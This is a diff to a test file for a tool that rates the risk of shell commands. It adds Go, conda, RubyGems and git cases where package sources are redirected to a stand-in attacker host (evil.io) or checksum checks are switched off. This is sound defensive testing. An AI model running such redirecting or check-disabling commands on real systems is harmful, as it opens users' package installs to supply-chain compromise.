@@ -11,7 +11,12 @@ import { shellRater } from "../../test/helpers/shell-rated.js";
  * `pushInsteadOf`) in the global config sends every clone, fetch or push of the URLs it names to
  * BASE, as `core.hooksPath` there runs hooks in every repository. Written for the project only, the
  * same settings are `moderate`; reading them, other keys and the registries' own defaults stay as
- * they were.
+ * they were. So for Go (`go env -w` writes the user's go/env file, read by every module download:
+ * GOPROXY names the server, GOSUMDB=off, GONOSUMDB, GOINSECURE and `GOFLAGS=-insecure` drop the
+ * checks on what it hands out), conda (`conda config --add`/`--prepend`/`--append channels URL`
+ * writes the user's ~/.condarc unless `--env`) and RubyGems (`gem sources --add URL`, ~/.gemrc).
+ * Given once with `git -c url.BASE.insteadOf=PREFIX`, the redirect holds for that command only:
+ * `moderate`.
  */
 const rated = shellRater();
 
@@ -34,6 +39,16 @@ describe("package sources changed in the user's config", () => {
     "pip config --user set global.index-url http://evil.io/simple",
     "pip config set --global global.index-url http://evil.io/simple",
     "python3 -m pip config set global.index-url http://evil.io/simple",
+    "go env -w GOPROXY=http://evil.io",
+    "go env -w GOPROXY=http://evil.io,direct",
+    "go env -w CGO_ENABLED=0 GOPROXY=http://evil.io",
+    "conda config --add channels http://evil.io",
+    "conda config --prepend channels http://evil.io",
+    "conda config --append channels http://evil.io",
+    "conda config --system --add channels http://evil.io",
+    "gem sources --add http://evil.io",
+    "gem sources -a http://evil.io",
+    "gem sources --add=http://evil.io",
   ])("%s is high", (line) => {
     const r = rated(line);
     expect(r.risk, r.shown).toBe("high");
@@ -54,7 +69,32 @@ describe("package sources changed in the user's config", () => {
   });
 
   it.each([
+    ["git -c url.http://evil.io/.insteadOf=https://github.com/ clone https://github.com/a/b", "fetch of https://github.com/"],
+    ['git -c url."http://evil.io/".insteadOf=https://github.com/ fetch', "fetch of https://github.com/"],
+    ["git -C repo -c url.http://evil.io/.pushInsteadOf=https://github.com/ push", "push meant for https://github.com/"],
+  ])("%s, a one-off redirect, is moderate", (line, what) => {
+    const r = rated(line);
+    expect(r.risk, r.shown).toBe("moderate");
+    expect(r.details.join("\n"), r.shown).toContain(`redirects this command's ${what} to http://evil.io/`);
+  });
+
+  it.each([
+    "go env -w GOSUMDB=off",
+    "go env -w GOSUMDB=sum.evil.io",
+    "go env -w GONOSUMDB=github.com/acme",
+    "go env -w GONOSUMCHECK=1",
+    "go env -w GOINSECURE=example.com",
+    "go env -w GOFLAGS=-insecure",
+    `go env -w "GOFLAGS=-mod=mod -insecure"`,
+  ])("%s, which drops the checks on downloaded modules, is high", (line) => {
+    const r = rated(line);
+    expect(r.risk, r.shown).toBe("high");
+    expect(r.details.join("\n"), r.shown).toMatch(/no longer checks the packages downloaded for every project/);
+  });
+
+  it.each([
     ["npm config set registry http://evil.io --location=project", /for this project/],
+    ["conda config --env --add channels http://evil.io", /for this environment/],
     ["npm config set registry http://evil.io --location project", /for this project/],
     ["npm config set registry http://evil.io -L project", /for this project/],
     ["pnpm config set registry http://evil.io --location project", /for this project/],
@@ -82,6 +122,22 @@ describe("package sources changed in the user's config", () => {
     "git config --global --unset url.http://evil.io/.insteadOf",
     "git config --get url.http://evil.io/.insteadOf",
     "git config --global user.name Ada",
+    "go env GOPROXY",
+    "go env -u GOPROXY",
+    "go env -u GOSUMDB",
+    "go env -w GOPROXY=https://proxy.golang.org,direct",
+    "go env -w GOPROXY=direct",
+    "go env -w GOSUMDB=sum.golang.org",
+    "go env -w GOPRIVATE=example.com",
+    "go env -w CGO_ENABLED=0",
+    "go env -w GOFLAGS=-mod=mod",
+    "conda config --add channels conda-forge",
+    "conda config --show channels",
+    "conda config --remove channels http://evil.io",
+    "conda config --set channel_priority strict",
+    "gem sources --list",
+    "gem sources --remove http://evil.io",
+    "gem sources --add https://rubygems.org/",
   ])("%s stays safe", (line) => {
     const r = rated(line);
     expect(r.risk, r.shown).toBe("safe");
